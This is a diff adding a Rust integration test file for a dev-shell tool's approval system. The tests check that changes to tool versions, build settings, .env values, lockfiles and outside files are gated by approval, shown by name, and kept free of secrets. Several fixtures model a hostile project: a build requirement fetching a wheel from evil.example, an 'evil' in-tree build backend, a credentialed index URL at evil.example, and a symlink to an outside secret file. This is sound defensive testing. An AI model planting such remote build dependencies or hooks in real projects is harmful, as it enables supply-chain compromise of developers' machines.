@@ -1,0 +1,392 @@
+//! The approval covers what decides what a dev shell does, shows each change by name, and follows lockfiles.
+
+use std::fs;
+
+use crate::{
+    reliability::strace,
+    support::{
+        HostShell, Sandbox, Server, for_each_shell,
+        pypi::{serve_tool, serve_tool_files},
+        sandbox::DEVSH,
+    },
+};
+
+const RUFF: &str = "[tools]\nruff = \"0.12\"\n[env]\nACTIVE = \"yes\"\n";
+
+/// Serves versions of a tool, each with these programs.
+fn serve_programs(server: &Server, version: &str, programs: &[&str]) {
+    let places: Vec<String> = programs
+        .iter()
+        .map(|program| format!("ruff-{version}.data/scripts/{program}"))
+        .collect();
+    let script: &[u8] = b"#!/bin/sh\necho a program\n";
+    let members: Vec<_> = places
+        .iter()
+        .map(|place| (place.as_str(), script, true))
+        .collect();
+    serve_tool_files(server, ("ruff", version), &members);
+}
+
+#[test]
+fn a_tool_that_another_file_adds_needs_approval_and_its_version_does_not() {
+    let server = Server::start();
+    serve_tool(&server, "ruff", &["0.12.4", "0.12.5"]);
+    serve_tool(&server, "pyrefly", &["1.0.0"]);
+    let sandbox = Sandbox::new().served_by(&server);
+    let mise = |tools: &str| sandbox.write("mise.toml", format!("[tools]\n{tools}"));
+    mise("ruff = \"0.12.4\"\n");
+    sandbox.allow();
+    let ruff = ["run", "--", "ruff", "--version"];
+    assert!(sandbox.devsh(&ruff).success().stdout.contains("0.12.4"));
+    mise("# newer\nruff   = \"0.12.5\"\n");
+    assert!(sandbox.devsh(&ruff).success().stdout.contains("0.12.5"));
+    mise("ruff = \"0.12.5\"\n\"pipx:pyrefly\" = \"1.0.0\"\n");
+    let _earlier = server.requests();
+    sandbox
+        .devsh(&ruff)
+        .code(3)
+        .error(&["has changed since you allowed it: `mise.toml`"]);
+    for shell in HostShell::ALL {
+        let answer = sandbox.devsh(&["export", shell.name(), "--nonce", "1", "--loaded", ""]);
+        assert!(answer.stderr.contains("`mise.toml`"), "{answer}");
+    }
+    assert_eq!(server.requests(), [""; 0]);
+    let shown = sandbox.devsh(&["allow"]).success().stderr;
+    assert!(shown.contains("+ dev tool pypi:pyrefly"), "{shown}");
+}
+
+#[test]
+fn allow_shows_each_change_of_a_build_by_name() {
+    let pyproject = "[project]\nname = \"app\"\nversion = \"1\"\n";
+    let build = "[build-system]\nrequires = [\"hatchling\"]\n";
+    let sandbox = Sandbox::new().manifest("[python]\nlock = \"uv.lock\"\n");
+    sandbox.write("pyproject.toml", format!("{pyproject}{build}"));
+    let lock = "version = 1\nrequires-python = \">=3.11\"\n[[package]]\nname = \"app\"\n\
+                version = \"1\"\nsource = { virtual = \".\" }\n";
+    sandbox.write("uv.lock", lock);
+    // The build fails without sources. The approval counts.
+    sandbox.devsh(&["allow"]);
+    let evil = "[build-system]\nrequires = [\"hatchling @ https://evil.example/h.whl\"]\n\
+                build-backend = \"evil\"\nbackend-path = [\".\"]\n";
+    for (name, text, shown) in [
+        (
+            "setup.py",
+            "import os\n".to_owned(),
+            "+ build code setup.py",
+        ),
+        (
+            "setup.py",
+            "import sys\n".to_owned(),
+            "~ build code setup.py",
+        ),
+        (
+            "uv.toml",
+            "index-url = \"http://me:password@evil.example/simple\"\n".to_owned(),
+            "+ build setting uv.toml index-url  http://evil.example/simple",
+        ),
+        (
+            "pyproject.toml",
+            format!("{pyproject}{evil}"),
+            "hatchling @ https://evil.example/h.whl",
+        ),
+        ("evil.py", "import os\n".to_owned(), "+ build code evil.py"),
+        (
+            "pyproject.toml",
+            format!(
+                "{pyproject}{evil}[tool.uv]\nextra-build-dependencies = {{ x = [\"evil\"] }}\n"
+            ),
+            "+ build setting pyproject.toml tool.uv.extra-build-dependencies.x",
+        ),
+        (
+            "setup.cfg",
+            "[metadata]\nname = app\n[options]\nsetup_requires =\n    evil\n".to_owned(),
+            "+ build setting setup.cfg options.setup_requires  evil",
+        ),
+    ] {
+        sandbox.write(name, &text);
+        let file = format!("`{name}`");
+        sandbox
+            .devsh(&["run", "--", "true"])
+            .code(3)
+            .error(&[&file]);
+        let outcome = sandbox.devsh(&["allow"]);
+        assert!(outcome.stderr.contains(shown), "{name}: {outcome}");
+        assert!(!outcome.stderr.contains("password"), "{outcome}");
+    }
+    for (name, text) in [
+        (
+            "pyproject.toml",
+            format!(
+                "# more\n{pyproject}{evil}[tool.uv]\nextra-build-dependencies={{x=['evil']}}\n[tool.ruff]\nfix = true\n"
+            ),
+        ),
+        (
+            "setup.cfg",
+            "[flake8]\nignore = E1\n[options]\nsetup-requires = evil\n".to_owned(),
+        ),
+        ("uv.lock", format!("# a comment\n{lock}")),
+    ] {
+        sandbox.write(name, &text);
+        let outcome = sandbox.devsh(&["run", "--", "true"]);
+        assert!(!outcome.stderr.contains("has changed"), "{name}: {outcome}");
+    }
+}
+
+#[test]
+fn values_of_env_files_count_and_are_never_shown() {
+    let sandbox = Sandbox::new().manifest("[env-files]\nload = [\".env\"]\n");
+    sandbox.write(".env", "TOKEN=hunter1\nOTHER=hunter2\n");
+    let first = sandbox.devsh(&["allow"]).success();
+    let run = ["run", "--", "printenv", "TOKEN"];
+    sandbox.write(
+        ".env",
+        "# a comment\nOTHER = hunter2\n\nexport TOKEN='hunter1'\n",
+    );
+    assert_eq!(sandbox.devsh(&run).success().stdout, "hunter1\n");
+    sandbox.write(".env", "TOKEN=hunter3\nOTHER=hunter2\n");
+    sandbox.devsh(&run).code(3).error(&["`.env`"]);
+    let second = sandbox.devsh(&["allow"]).success();
+    assert!(
+        second
+            .stderr
+            .contains("~ dev variable TOKEN  from .env → another value"),
+        "{second}"
+    );
+    assert!(!second.stderr.contains("OTHER"), "{second}");
+    sandbox.write(".env", "TOKEN hunter4\nNOT-A hunter5=1\nOPEN=\"hunter6\n");
+    let invalid = sandbox.devsh(&["allow"]);
+    for outcome in [first, second, sandbox.devsh(&["allow"]), invalid] {
+        let all = format!("{}{}", outcome.stdout, outcome.stderr);
+        assert!(!all.contains("hunter"), "{outcome}");
+    }
+}
+
+#[test]
+fn a_new_program_of_a_tool_needs_approval() {
+    for_each_shell(|shell| {
+        let server = Server::start();
+        serve_programs(&server, "0.12.4", &["ruff"]);
+        let sandbox = Sandbox::new().served_by(&server).manifest(RUFF);
+        sandbox.allow();
+        let lock = sandbox.project().join("devshell.lock");
+        let before = fs::read_to_string(&lock).unwrap();
+        serve_programs(&server, "0.12.5", &["ruff", "ls"]);
+        sandbox.devsh(&["lock", "--upgrade"]).success();
+        let run = ["run", "--", "ls"];
+        sandbox
+            .devsh(&run)
+            .code(3)
+            .error(&["has programs that you have not approved: `ls` of `ruff`"]);
+        let mut pty = sandbox.shell(shell);
+        pty.enter();
+        assert_eq!(pty.var("ACTIVE"), None);
+        let shown = sandbox.devsh(&["allow"]).success().stderr;
+        assert!(shown.contains("+ program of ruff  ls"), "{shown}");
+        assert_eq!(sandbox.devsh(&run).success().stdout, "a program\n");
+        // Fewer programs and older versions are no news.
+        fs::write(&lock, before).unwrap();
+        sandbox.devsh(&["run", "--", "ruff"]).success();
+    });
+}
+
+#[test]
+fn a_build_for_a_changed_lockfile_names_the_change() {
+    for_each_shell(|shell| {
+        let server = Server::start();
+        serve_tool(&server, "ruff", &["0.12.4"]);
+        let sandbox = Sandbox::new().served_by(&server).manifest(RUFF);
+        sandbox.allow();
+        let mut pty = sandbox.shell(shell);
+        pty.enter();
+        assert_eq!(pty.var("ACTIVE").as_deref(), Some("yes"));
+        serve_tool(&server, "ruff", &["0.12.4", "0.12.5"]);
+        sandbox.devsh(&["lock", "--upgrade"]).success();
+        let shown = pty.type_line("true");
+        let change = "ruff 0.12.4 → 0.12.5, devshell.lock changed";
+        assert!(shown.contains(change), "{shown}");
+        assert_eq!(pty.var("ACTIVE").as_deref(), Some("yes"), "nothing asks");
+    });
+}
+
+#[test]
+fn lockfiles_ask_if_the_user_says_so() {
+    let server = Server::start();
+    serve_tool(&server, "ruff", &["0.12.4"]);
+    let sandbox = Sandbox::new()
+        .served_by(&server)
+        .config(
+            "[trust]
+lockfiles = \"ask\"
+",
+        )
+        .manifest(RUFF);
+    sandbox.devsh(&["lock", "--trust"]).success();
+    sandbox.allow();
+    sandbox.devsh(&["run", "--", "true"]).success();
+    serve_tool(&server, "ruff", &["0.12.4", "0.12.5"]);
+    sandbox.devsh(&["lock", "--upgrade"]).success();
+    sandbox
+        .devsh(&["run", "--", "true"])
+        .code(3)
+        .error(&["has changed since you allowed it: `devshell.lock`"]);
+    let shown = sandbox.devsh(&["allow"]).success().stderr;
+    assert!(shown.contains("~ locked ruff"), "{shown}");
+    assert!(shown.contains("0.12.4 → 0.12.5"), "{shown}");
+    sandbox.devsh(&["run", "--", "true"]).success();
+}
+
+#[test]
+fn allow_asks_on_a_terminal_and_show_changes_nothing() {
+    for_each_shell(|shell| {
+        let sandbox = Sandbox::new().manifest("[env]\nACTIVE = \"yes\"\n");
+        let mut pty = sandbox.shell(shell);
+        pty.enter();
+        let shown = pty.answer_question("devsh allow", "Allow? [Y/n]", "n");
+        assert!(shown.contains("dev variable ACTIVE"), "{shown}");
+        assert_eq!(pty.var("ACTIVE"), None);
+        let shown = sandbox.devsh(&["allow", "--show"]).success().stderr;
+        assert!(shown.contains("dev variable ACTIVE"), "{shown}");
+        sandbox.devsh(&["run", "--", "true"]).code(3);
+        pty.answer_question("devsh allow", "Allow? [Y/n]", "");
+        assert_eq!(pty.var("ACTIVE").as_deref(), Some("yes"));
+        sandbox.write("devshell.toml", "[env]\nACTIVE = \"again\"\n");
+        pty.type_line("devsh allow --yes");
+        assert_eq!(pty.var("ACTIVE").as_deref(), Some("again"));
+    });
+}
+
+#[test]
+fn an_unapproved_project_is_not_read_at_a_prompt() {
+    let Some(strace) = strace::strace() else {
+        return;
+    };
+    let sandbox = Sandbox::new().manifest("[python]\nlock = \"uv.lock\"\n");
+    sandbox.write("uv.lock", "version = 1\n");
+    sandbox.write("devshell.lock", "version = 1\n");
+    let log = sandbox.root().join("tmp/strace");
+    let opened = |words: &[&str]| {
+        let output = sandbox
+            .command(&strace)
+            .args(["-f", "-qq", "-e", "trace=open,openat,openat2", "-o"])
+            .arg(&log)
+            .arg(DEVSH)
+            .args(words)
+            .output()
+            .unwrap();
+        let project = format!("{}/", sandbox.project().display());
+        let calls = fs::read_to_string(&log).unwrap();
+        let opened = calls.lines().filter(|line| line.contains(&project));
+        (output, opened.map(str::to_owned).collect::<Vec<_>>())
+    };
+    let prompt = [
+        "export", "bash", "--nonce", "1", "--loaded", "", "--checks", "",
+    ];
+    let (output, calls) = opened(&prompt);
+    let shown = String::from_utf8(output.stderr).unwrap();
+    assert!(shown.contains("is not allowed yet"), "{shown}");
+    assert_eq!(calls, [""; 0]);
+    // Once another state is approved, the manifest decides whether lockfiles are read.
+    sandbox.devsh(&["allow"]);
+    sandbox.write(
+        "devshell.toml",
+        "[python]\nlock = \"uv.lock\"\n[env]\nA = \"1\"\n",
+    );
+    let (_, calls) = opened(&prompt);
+    assert!(calls.iter().any(|call| call.contains("devshell.toml")));
+    assert!(
+        !calls.iter().any(|call| call.contains("uv.lock")),
+        "{calls:?}"
+    );
+    sandbox.write("devshell.toml", format!("#{}\n", "x".repeat(2 << 20)));
+    sandbox
+        .devsh(&["run", "--", "true"])
+        .error(&["at most 1 MiB together before you allow it"]);
+}
+
+#[test]
+fn a_file_outside_of_the_project_is_opened_only_after_approval() {
+    let Some(strace) = strace::strace() else {
+        return;
+    };
+    for (manifest, linked) in [
+        ("[env-files]\nload = [\"../secret\"]\n", false),
+        ("extends = [\"../secret\"]\n", false),
+        ("[python]\nlock = \"requirements.txt\"\n", true),
+    ] {
+        let sandbox = Sandbox::new().manifest(manifest);
+        let secret = sandbox.home().join("secret");
+        fs::write(&secret, "BAD LINE TOPSECRET = [\"\nmachine TOPSECRET\n").unwrap();
+        if linked {
+            let link = sandbox.project().join("requirements.txt");
+            std::os::unix::fs::symlink("../secret", link).unwrap();
+        }
+        let log = sandbox.root().join("tmp/strace");
+        let prompt = [
+            "export", "bash", "--nonce", "1", "--loaded", "", "--checks", "",
+        ];
+        let commands: [&[&str]; 6] = [
+            &prompt,
+            &["status"],
+            &["explain"],
+            &["run", "--", "true"],
+            &["lock", "--check"],
+            &["allow", "--show"],
+        ];
+        for words in commands {
+            let output = sandbox
+                .command(&strace)
+                .args(["-f", "-qq", "-e", "trace=open,openat,openat2", "-o"])
+                .arg(&log)
+                .arg(DEVSH)
+                .args(words)
+                .output()
+                .unwrap();
+            let calls = fs::read_to_string(&log).unwrap();
+            assert!(
+                !calls.contains("secret\""),
+                "{manifest}: {words:?} {output:?}"
+            );
+        }
+        let shown = sandbox.devsh(&["allow", "--show"]).success().stderr;
+        assert!(shown.contains("file outside of the project"), "{shown}");
+        let outcome = sandbox.devsh(&["allow"]);
+        let all = format!("{}{}", outcome.stdout, outcome.stderr);
+        assert!(!all.contains("TOPSECRET"), "{outcome}");
+    }
+    // What was approved is read, and only that.
+    let sandbox = Sandbox::new().manifest("extends = [\"../team.toml\"]\n");
+    let team = sandbox.home().join("team.toml");
+    fs::write(&team, "[env]\nTEAM = \"one\"\n").unwrap();
+    sandbox.allow();
+    let run = ["run", "--", "printenv", "TEAM"];
+    assert_eq!(sandbox.devsh(&run).success().stdout, "one\n");
+    fs::write(&team, "[env]\nTEAM = \"two\"\n").unwrap();
+    sandbox.devsh(&run).code(3).error(&["`../team.toml`"]);
+}
+
+#[test]
+fn no_message_is_long() {
+    let long = "x".repeat(900_000);
+    for manifest in [
+        format!("[tools]\nruff = \"{}\"\n", "9".repeat(900_000)),
+        format!("[tools]\n\"{long}\" = \"1\"\n"),
+        format!("extends = [\"{}\"]\n", "\\u001b".repeat(150_000)),
+        format!("[env]\nA = {long}\n"),
+    ] {
+        let sandbox = Sandbox::new().manifest("[env]\nA = \"1\"\n");
+        sandbox.allow();
+        sandbox.write("devshell.toml", &manifest);
+        let prompt = [
+            "export", "bash", "--nonce", "1", "--loaded", "", "--checks", "",
+        ];
+        let commands: [&[&str]; 3] = [&prompt, &["status"], &["allow"]];
+        for words in commands {
+            let outcome = sandbox.devsh(words);
+            let mut size = outcome.stderr.len();
+            if words != prompt {
+                size += outcome.stdout.len();
+            }
+            assert!(size < 5000, "{words:?}: {size} bytes");
+        }
+    }
+}
